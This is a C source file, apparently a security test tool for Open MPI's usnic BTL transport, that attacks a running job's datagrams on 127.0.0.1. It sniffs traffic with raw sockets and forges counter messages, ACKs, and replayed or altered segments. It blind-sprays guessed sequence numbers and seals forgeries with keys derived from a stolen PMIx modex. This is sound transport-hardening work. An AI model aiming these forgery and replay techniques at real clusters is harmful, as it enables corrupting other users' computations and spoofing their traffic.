/*
 * Copyright (c) 2026 The usnic BTL authors.  All rights reserved.
 *
 * Attacks on the usnic BTL's datagrams, against a running job on
 * 127.0.0.1 (test/attack/victim.c).  Everything goes only to the job's
 * ports on 127.0.0.1.
 *
 *   dgram_attack MODE SECONDS PORT...    PORTs: two per rank (priority,
 *                                        data), in rank order
 *
 * Modes run by root (a sniffer on the path: a raw socket sees a copy of
 * every datagram, and writes UDP headers of its own, so any source port):
 *   frag-ahead  answers every genuine counter message (a FRAG of the
 *               victim's 8-byte counter) at once with a forged one: the
 *               next BTL and ob1 sequence numbers, a marker value, from
 *               the sender's own port.  It arrives before the genuine
 *               message with those numbers.
 *   tags        as frag-ahead, the BTL tag taking every value 0..255 in turn
 *   splice      sends every genuine data segment again at once, its
 *               header (nonce and tag included) untouched, its payload
 *               changed
 *   splice-late as splice, each copy sent LATE_MS after its genuine (a
 *               copy that surely comes second, even when the kernel defers
 *               the genuine's delivery or the genuine is lost and resent)
 *   cross-peer  sends every genuine data segment to another rank (same
 *               channel), from the same source port: a datagram of one
 *               pair replayed to another
 *   ack         answers every data segment with a forged ACK of it (and of
 *               everything before: also a segment the path lost), from the
 *               receiver's port, flagged as new and as a premature timeout
 *   feed        writes every genuine counter message to stdout, for a
 *               frag-ahead-own attacker without privileges
 *   frag-ahead-keyed  as frag-ahead, each forgery sealed (nonce and tag, as
 *               the BTL seals a datagram) with the key its direction
 *               would have if keys came from the modex alone: the
 *               BLAKE2b derivation of protocol 5 (opal_btl_usnic_derive_key)
 *               of the receiver's modex key field and the sender's
 *               node_id, under the algorithm both ends' mac_algs pick.
 *               The modex is read from the file ATTACK_MODEX, as
 *               pmix_thief prints it (run-pmix-attacks.sh).  Against keys
 *               that need more than the modex the tags are wrong and the
 *               forgeries are counted as drop_bad_mac.
 * Modes any user can run (from the attacker's own UDP socket):
 *   frag-ahead-own  reads what feed writes and answers as frag-ahead
 *   spray       blind: FRAGs, ACKs, CHUNKs and PUTs claiming every rank,
 *               at guessed sequence numbers (and the ISN formula of
 *               protocol 1), with every BTL tag 0..255; ATTACK_MAX=N
 *               stops after the round (one forgery per rank and port)
 *               that reaches N, the rounds spread over the SECONDS
 *
 * Prints "dgram_attack: MODE: saw N genuine datagrams, sent M forgeries";
 * exits 1 if it sent nothing.
 */
#include <errno.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "../../btl_usnic_auth.h"
#include "../../btl_usnic_proto.h"
#include "../faults/rawudp.h"

/* ob1's match header as Open MPI 4.1 sends it: type, flags, ctx, src, tag,
 * then the 16-bit message sequence number at this offset; 14 bytes */
#define OB1_MATCH_LEN 14
#define OB1_SEQ_OFFSET 12
#define COUNTER_PAYLOAD (OB1_MATCH_LEN + 8)
#define MARKER 0xf0f0f0f0f0f0f0f0ull

/* Datagrams already answered, by source port and nonce: the raw socket
 * also sees the attacker's own copies, which keep their genuine's nonce */
#define ANSWERED_SLOTS 65536
typedef struct {
    uint16_t sport;
    uint64_t nonce;
} answered_t;

/* splice-late: copies waiting for their time, oldest first */
#define LATE_MS 20.0
#define LATE_SLOTS 1024
typedef struct {
    double due;
    uint16_t sport, dport;
    size_t len;
    uint8_t bytes[1500];
} late_copy_t;

typedef struct {
    const char *mode;
    answered_t answered[ANSWERED_SLOTS];
    late_copy_t late[LATE_SLOTS];
    unsigned late_head, late_tail; /* ring: [head, tail) waiting */
    rawudp_ports_t ports;
    int raw;          /* raw socket (root modes), -1 otherwise */
    int own;          /* the attacker's own UDP socket */
    unsigned next_tag;
    long seen, sent;
    uint64_t job;     /* spray: the victim's job id << 32 (ATTACK_JOBID), as a local user computes it */
    /* frag-ahead-keyed: what the thief read of each rank's modex (by rank) */
    struct {
        bool have;
        unsigned protection, mac_algs;
        uint8_t node_id[OPAL_BTL_USNIC_ID_BYTES];
        uint8_t recv_key[OPAL_BTL_USNIC_KEY_BYTES];
    } modex[RAWUDP_MAX_PORTS / 2];
    long unkeyed;     /* frag-ahead-keyed: forgeries not sent for want of a rank's modex */
} attacker_t;

/* Rank and channel of a job port */
static int port_rank(const attacker_t *a, uint16_t port)
{
    return rawudp_port_index(&a->ports, port) / 2;
}
static int port_channel(const attacker_t *a, uint16_t port)
{
    return rawudp_port_index(&a->ports, port) % 2;
}

static void send_raw(attacker_t *a, uint16_t sport, uint16_t dport, const void *buf, size_t len)
{
    a->sent += rawudp_send(a->raw, sport, dport, buf, len);
    if (0 == a->sent % 32) {
        usleep(200); /* stay below the ranks' socket buffers: a copy the kernel drops is not counted */
    }
}

static void send_own(attacker_t *a, uint16_t dport, const void *buf, size_t len)
{
    struct sockaddr_in to;
    memset(&to, 0, sizeof(to));
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK); /* never anywhere else */
    to.sin_port = htons(dport);
    a->sent += sendto(a->own, buf, len, 0, (struct sockaddr *) &to, sizeof(to)) == (ssize_t) len;
}

static bool is_counter(const opal_btl_usnic_hdr_t *h, size_t len)
{
    return OPAL_BTL_USNIC_PKT_FRAG == h->type && COUNTER_PAYLOAD == le16toh(h->payload_len) &&
           len >= sizeof(*h) + COUNTER_PAYLOAD;
}

static bool is_forged(const uint8_t *payload_end)
{
    uint64_t v;
    memcpy(&v, payload_end - 8, 8);
    return MARKER == v;
}

/* The counter message after genuine |g|, as the attacker wants it: next
 * sequence numbers, the marker value, BTL tag |tag| (-1: unchanged) */
static size_t forge_next_counter(const uint8_t *g, uint8_t *out, int tag)
{
    size_t len = sizeof(opal_btl_usnic_hdr_t) + COUNTER_PAYLOAD;
    memcpy(out, g, len);
    opal_btl_usnic_hdr_t *h = (opal_btl_usnic_hdr_t *) out;
    h->seq = htole32(le32toh(h->seq) + 1);
    h->nonce = htole64(le64toh(h->nonce) + 1);
    if (tag >= 0) {
        h->tag = (uint8_t) tag;
    }
    uint8_t *ob1 = out + sizeof(*h);
    uint16_t ob1_seq;
    memcpy(&ob1_seq, ob1 + OB1_SEQ_OFFSET, 2);
    ob1_seq = (uint16_t) (ob1_seq + 1);
    memcpy(ob1 + OB1_SEQ_OFFSET, &ob1_seq, 2);
    uint64_t marker = MARKER;
    memcpy(ob1 + OB1_MATCH_LEN, &marker, 8);
    return len;
}

/* frag-ahead-keyed: seals |f| (|len| bytes) as its claimed sender would
 * if the key of the direction came from the modex alone; false if the
 * thief did not read both ends */
static bool seal_from_modex(attacker_t *a, uint8_t *f, size_t len, uint16_t sport, uint16_t dport)
{
    int from = port_rank(a, sport), to = port_rank(a, dport);
    if (from < 0 || to < 0 || !a->modex[from].have || !a->modex[to].have) {
        ++a->unkeyed;
        return false;
    }
    uint8_t key[OPAL_BTL_USNIC_KEY_BYTES];
    opal_btl_usnic_derive_key(a->modex[to].recv_key, a->modex[from].node_id, key);
    opal_btl_usnic_mac_t m;
    opal_btl_usnic_mac_init(&m, opal_btl_usnic_mac_pick(a->modex[from].mac_algs, a->modex[to].mac_algs), key);
    opal_btl_usnic_hdr_t *h = (opal_btl_usnic_hdr_t *) f;
    memset(h->mac, 0, sizeof(h->mac));
    size_t covered = (OPAL_BTL_USNIC_PROTECT_FULL == a->modex[to].protection) ? len : opal_btl_usnic_hdr_len(h->type);
    uint8_t tag[OPAL_BTL_USNIC_MAC_BYTES];
    opal_btl_usnic_mac_tag(&m, le64toh(h->nonce), f, covered, tag);
    memcpy(h->mac, tag, sizeof(tag));
    opal_btl_usnic_mac_clear(&m);
    sodium_memzero(key, sizeof(key));
    return true;
}

/* frag-ahead-keyed: reads pmix_thief's "entry rank=R ... ports=P0/P1 ...
 * mac_algs=N node_id=HEX recv_key=HEX" lines from |path|; the ranks must
 * be the job's (their ports among PORTs).  Returns how many it read. */
static int read_modex(attacker_t *a, const char *path)
{
    FILE *f = (NULL != path) ? fopen(path, "r") : NULL;
    char line[1024];
    int n = 0;
    if (NULL == f) {
        fprintf(stderr, "dgram_attack: cannot read ATTACK_MODEX (%s)\n", NULL != path ? path : "unset");
        return 0;
    }
    while (NULL != fgets(line, sizeof(line), f)) {
        int rank;
        unsigned p0, p1, prot, algs;
        char id[2 * OPAL_BTL_USNIC_ID_BYTES + 1], rk[2 * OPAL_BTL_USNIC_KEY_BYTES + 1];
        if (7 != sscanf(line, "entry rank=%d module=0 ipv4=%*s ports=%u/%u protection=%u mac_algs=%u node_id=%32s "
                              "recv_key=%64s", &rank, &p0, &p1, &prot, &algs, id, rk) ||
            rank < 0 || 2 * rank + 1 >= a->ports.n || a->ports.port[2 * rank] != p0 ||
            a->ports.port[2 * rank + 1] != p1) {
            continue;
        }
        if (0 != sodium_hex2bin(a->modex[rank].node_id, sizeof(a->modex[rank].node_id), id, strlen(id), NULL, NULL,
                                NULL) ||
            0 != sodium_hex2bin(a->modex[rank].recv_key, sizeof(a->modex[rank].recv_key), rk, strlen(rk), NULL, NULL,
                                NULL)) {
            continue;
        }
        a->modex[rank].protection = prot;
        a->modex[rank].mac_algs = algs;
        a->modex[rank].have = true;
        ++n;
    }
    fclose(f);
    return n;
}

static void answer_counter(attacker_t *a, const uint8_t *g, uint16_t sport, uint16_t dport, int tag, bool own)
{
    uint8_t f[sizeof(opal_btl_usnic_hdr_t) + COUNTER_PAYLOAD];
    size_t len = forge_next_counter(g, f, tag);
    if (0 == strcmp(a->mode, "frag-ahead-keyed") && !seal_from_modex(a, f, len, sport, dport)) {
        return;
    }
    if (own) {
        send_own(a, dport, f, len);
    } else {
        send_raw(a, sport, dport, f, len);
    }
}

static void splice(attacker_t *a, const uint8_t *g, size_t len, uint16_t sport, uint16_t dport)
{
    uint8_t f[1500];
    size_t hl = opal_btl_usnic_hdr_len(((const opal_btl_usnic_hdr_t *) g)->type);
    if (len > sizeof(f) || len <= hl) {
        return;
    }
    memcpy(f, g, len);
    for (size_t i = hl; i < len; ++i) {
        f[i] ^= 0x5a;
    }
    if (0 != strcmp(a->mode, "splice-late")) {
        send_raw(a, sport, dport, f, len);
    } else if (a->late_tail - a->late_head < LATE_SLOTS) {
        late_copy_t *c = &a->late[a->late_tail++ % LATE_SLOTS];
        *c = (late_copy_t){.due = rawudp_now_ms() + LATE_MS, .sport = sport, .dport = dport, .len = len};
        memcpy(c->bytes, f, len);
    }
}

/* splice-late: sends the copies whose time has come */
static void send_due_copies(attacker_t *a)
{
    double now = rawudp_now_ms();
    while (a->late_head != a->late_tail && a->late[a->late_head % LATE_SLOTS].due <= now) {
        const late_copy_t *c = &a->late[a->late_head++ % LATE_SLOTS];
        send_raw(a, c->sport, c->dport, c->bytes, c->len);
    }
}

/* To the same channel of the next rank that is neither sender nor receiver */
static void cross_peer(attacker_t *a, const uint8_t *g, size_t len, uint16_t sport, uint16_t dport)
{
    int nranks = a->ports.n / 2, from = port_rank(a, sport), to = port_rank(a, dport);
    for (int r = 0; r < nranks; ++r) {
        if (r != from && r != to) {
            send_raw(a, sport, a->ports.port[2 * r + port_channel(a, dport)], g, len);
            return;
        }
    }
}

/* An ACK of |g|'s sequence number from its receiver to its sender, as the
 * receiver would send it (priority channel to priority channel) */
static void forge_ack(attacker_t *a, const opal_btl_usnic_hdr_t *g, uint16_t sport, uint16_t dport)
{
    int sender = port_rank(a, sport), receiver = port_rank(a, dport);
    opal_btl_usnic_ack_hdr_t ack;
    memset(&ack, 0, sizeof(ack)); /* no selective-ACK ranges */
    opal_btl_usnic_hdr_t h = ack.hdr;
    h.magic = htole16(OPAL_BTL_USNIC_MAGIC);
    h.version = OPAL_BTL_USNIC_PROTO_VERSION;
    h.type = OPAL_BTL_USNIC_PKT_ACK;
    h.sender = htole64((le64toh(g->sender) & ~(uint64_t) UINT32_MAX) | (uint32_t) receiver); /* same job */
    h.ack_seq = g->seq;
    h.flags = OPAL_BTL_USNIC_HDR_FLAG_ACK | OPAL_BTL_USNIC_HDR_FLAG_ACK_NEW | OPAL_BTL_USNIC_HDR_FLAG_LATE_DUP;
    h.credit = htole16(4096);
    h.nonce = htole64(((uint64_t) 1 << 63) + (uint64_t) a->sent); /* fresh, as far as a guess goes */
    ack.hdr = h;
    send_raw(a, a->ports.port[2 * receiver], a->ports.port[2 * sender], &ack, sizeof(ack));
}

/* A record of feed: ports and the genuine counter message */
typedef struct {
    uint16_t sport, dport;
    uint8_t bytes[sizeof(opal_btl_usnic_hdr_t) + COUNTER_PAYLOAD];
} feed_record_t;

static void feed(attacker_t *a, const uint8_t *g, uint16_t sport, uint16_t dport)
{
    feed_record_t r = {.sport = sport, .dport = dport};
    memcpy(r.bytes, g, sizeof(r.bytes));
    a->sent += write(STDOUT_FILENO, &r, sizeof(r)) == (ssize_t) sizeof(r);
}

/* Was this datagram (or a copy of it) answered before?  Notes it if not. */
static bool already_answered(attacker_t *a, uint16_t sport, uint64_t nonce)
{
    answered_t *slot = &a->answered[(nonce * 0x9e3779b97f4a7c15ull + sport) % ANSWERED_SLOTS];
    if (slot->sport == sport && slot->nonce == nonce) {
        return true;
    }
    slot->sport = sport;
    slot->nonce = nonce;
    return false;
}

/* One genuine datagram of the job, |len| bytes at |g|, seen on the wire */
static void on_genuine(attacker_t *a, const uint8_t *g, size_t len, uint16_t sport, uint16_t dport)
{
    const opal_btl_usnic_hdr_t *h = (const opal_btl_usnic_hdr_t *) g;
    if (len < sizeof(*h) || OPAL_BTL_USNIC_MAGIC != le16toh(h->magic)) {
        return;
    }
    bool counter = is_counter(h, len);
    if (counter && is_forged(g + sizeof(*h) + COUNTER_PAYLOAD)) {
        return; /* ours */
    }
    if (already_answered(a, sport, le64toh(h->nonce))) {
        return;
    }
    bool data = OPAL_BTL_USNIC_PKT_ACK != h->type;
    if ((0 == strcmp(a->mode, "frag-ahead") || 0 == strcmp(a->mode, "frag-ahead-keyed")) && counter) {
        ++a->seen;
        answer_counter(a, g, sport, dport, -1, false);
    } else if (0 == strcmp(a->mode, "tags") && counter) {
        ++a->seen;
        answer_counter(a, g, sport, dport, (int) (a->next_tag++ % 256), false);
    } else if (0 == strcmp(a->mode, "feed") && counter) {
        ++a->seen;
        feed(a, g, sport, dport);
    } else if (0 == strncmp(a->mode, "splice", 6) && data) {
        ++a->seen;
        splice(a, g, len, sport, dport);
    } else if (0 == strcmp(a->mode, "cross-peer") && data) {
        ++a->seen;
        cross_peer(a, g, len, sport, dport);
    } else if (0 == strcmp(a->mode, "ack") && OPAL_BTL_USNIC_PKT_ACK != h->type) {
        ++a->seen;
        forge_ack(a, h, sport, dport);
    }
}

static int sniff(attacker_t *a, double seconds)
{
    int rx = rawudp_open_rx("dgram_attack");
    a->raw = rawudp_open_tx("dgram_attack");
    if (rx < 0 || a->raw < 0) {
        return 1;
    }
    double t0 = rawudp_now_ms();
    while (rawudp_now_ms() - t0 < 1e3 * seconds) {
        uint16_t sport, dport;
        size_t len;
        send_due_copies(a);
        int wait_ms = (a->late_head != a->late_tail) ? 1 : 50;
        const uint8_t *g = rawudp_next(rx, &a->ports, wait_ms, &sport, &dport, &len);
        if (NULL != g) {
            on_genuine(a, g, len, sport, dport);
        }
    }
    close(rx);
    return 0;
}

static int frag_ahead_own(attacker_t *a, double seconds)
{
    feed_record_t r;
    double t0 = rawudp_now_ms();
    while (rawudp_now_ms() - t0 < 1e3 * seconds && read(STDIN_FILENO, &r, sizeof(r)) == (ssize_t) sizeof(r)) {
        if (rawudp_is_job_port(&a->ports, r.dport)) {
            ++a->seen;
            answer_counter(a, r.bytes, r.sport, r.dport, -1, true);
        }
    }
    return 0;
}

/* Protocol 1's ISN: pid * phi ^ nsec ^ sec << 20 of CLOCK_MONOTONIC; the
 * guess takes a pid near ours and the current second */
static uint32_t old_isn_guess(unsigned i)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    uint32_t pid = (uint32_t) getpid() - 64u + (i % 128u);
    return (pid * 2654435761u) ^ (uint32_t) ts.tv_nsec ^ ((uint32_t) ts.tv_sec << 20);
}

static size_t blind_segment(uint8_t *buf, unsigned i, uint64_t sender)
{
    static const uint8_t types[] = {OPAL_BTL_USNIC_PKT_FRAG, OPAL_BTL_USNIC_PKT_ACK, OPAL_BTL_USNIC_PKT_CHUNK,
                                    OPAL_BTL_USNIC_PKT_PUT};
    uint8_t type = types[i % 4];
    size_t hl = opal_btl_usnic_hdr_len(type), payload = (OPAL_BTL_USNIC_PKT_ACK == type) ? 0 : 64;
    memset(buf, 0, hl + payload);
    opal_btl_usnic_hdr_t *h = (opal_btl_usnic_hdr_t *) buf;
    h->magic = htole16(OPAL_BTL_USNIC_MAGIC);
    h->version = OPAL_BTL_USNIC_PROTO_VERSION;
    h->type = type;
    h->sender = htole64(sender);
    uint32_t seq = (0 == i % 3) ? old_isn_guess(i) : (uint32_t) random() * 2u + (uint32_t) (random() & 1);
    h->seq = htole32(seq);
    h->ack_seq = htole32(seq);
    h->flags = OPAL_BTL_USNIC_HDR_FLAG_ACK;
    h->payload_len = htole16((uint16_t) payload);
    h->tag = (uint8_t) (i / 4);
    h->credit = htole16(4096);
    h->nonce = htole64((uint64_t) i + 1);
    if (OPAL_BTL_USNIC_PKT_CHUNK == type) {
        opal_btl_usnic_chunk_hdr_t *ch = (opal_btl_usnic_chunk_hdr_t *) buf;
        ch->frag_id = htole32(1 + i);
        ch->frag_size = htole32(4096);
        ch->frag_offset = htole32(64 * (i % 8));
    }
    memset(buf + hl, 0xee, payload);
    return hl + payload;
}

/* spray rounds until |max| forgeries are sent (0: no limit), spread
 * over |seconds| */
static int spray(attacker_t *a, double seconds, long max)
{
    static uint8_t buf[2048];
    int nranks = a->ports.n / 2;
    double t0 = rawudp_now_ms();
    for (unsigned i = 0; rawudp_now_ms() - t0 < 1e3 * seconds && (0 == max || a->sent < max); ++i) {
        while (max > 0 && a->sent > max * (rawudp_now_ms() - t0) / (1e3 * seconds)) {
            usleep(1000);
        }
        for (int to = 0; to < a->ports.n; ++to) {
            for (int s = 0; s < nranks; ++s) {
                if (s != to / 2) {
                    send_own(a, a->ports.port[to], buf, blind_segment(buf, i, a->job | (uint32_t) s));
                }
            }
        }
        if (0 == i % 8) {
            usleep(500); /* stay below the ranks' socket buffers */
        }
    }
    a->seen = -1;
    return 0;
}

int main(int argc, char **argv)
{
    static attacker_t a = {.raw = -1};
    if (argc < 5 || 0 != rawudp_ports_parse(&a.ports, argc - 3, argv + 3, "dgram_attack") || 0 != a.ports.n % 2) {
        fprintf(stderr, "usage: %s MODE SECONDS PORT... (two per rank, in rank order)\n", argv[0]);
        return 2;
    }
    a.mode = argv[1];
    double seconds = atof(argv[2]);
    a.own = socket(AF_INET, SOCK_DGRAM, 0);
    if (a.own < 0) {
        perror("dgram_attack: socket");
        return 1;
    }
    srandom((unsigned) getpid());
    int rc;
    if (0 == strcmp(a.mode, "spray")) {
        const char *job = getenv("ATTACK_JOBID");
        a.job = (uint64_t) strtoull(NULL != job ? job : "0", NULL, 0) << 32;
        const char *max = getenv("ATTACK_MAX");
        rc = spray(&a, seconds, strtol(NULL != max ? max : "0", NULL, 0));
    } else if (0 == strcmp(a.mode, "frag-ahead-own")) {
        rc = frag_ahead_own(&a, seconds);
    } else if (0 == strcmp(a.mode, "frag-ahead-keyed")) {
        int n = (opal_btl_usnic_auth_init() != 0) ? read_modex(&a, getenv("ATTACK_MODEX")) : 0;
        fprintf(stderr, "dgram_attack: %s: modex of %d of %d ranks\n", a.mode, n, a.ports.n / 2);
        rc = (n > 0) ? sniff(&a, seconds) : 1;
    } else {
        rc = sniff(&a, seconds);
    }
    if (a.unkeyed > 0) {
        fprintf(stderr, "dgram_attack: %s: %ld forgeries not sent: no modex of their ranks\n", a.mode, a.unkeyed);
    }
    fprintf(stderr, "dgram_attack: %s: saw %ld genuine datagrams, sent %ld forgeries\n", a.mode, a.seen, a.sent);
    close(a.own);
    if (a.raw >= 0) {
        close(a.raw);
    }
    return (0 == rc && a.sent > 0) ? 0 : 1;
}
